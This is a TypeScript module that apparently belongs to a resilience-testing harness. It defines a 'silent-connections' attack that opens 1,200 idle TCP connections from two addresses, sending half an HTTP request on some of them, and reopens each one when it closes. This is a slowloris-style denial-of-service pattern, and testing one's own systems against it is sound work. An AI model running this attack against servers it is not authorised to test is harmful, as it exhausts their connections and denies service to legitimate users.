/** Two addresses hold TCP connections over which they send nothing, or half of a request. */
import type { Attack } from '../attack.ts'

const ADDRESSES = 2
const CONNECTIONS = 1_200
const BATCH = 100
const BATCH_MS = 200

export const silentConnections: Attack = {
  name: 'silent-connections',
  about: 'holds 1,200 TCP connections that say nothing, and opens each again when it ends',
  addresses: ADDRESSES,
  run: (raid) => {
    const total = raid.size(CONNECTIONS)
    let opened = 0
    raid.every(BATCH_MS, () => {
      for (let i = 0; i < BATCH && opened < total; i++) {
        const first = Buffer.from('GET /api/v3/ping HTTP/1.1\r\nHost: ')
        const address = opened % ADDRESSES
        raid.connect(address, ++opened % 3 === 0 ? { first } : {})
      }
    })
  },
}
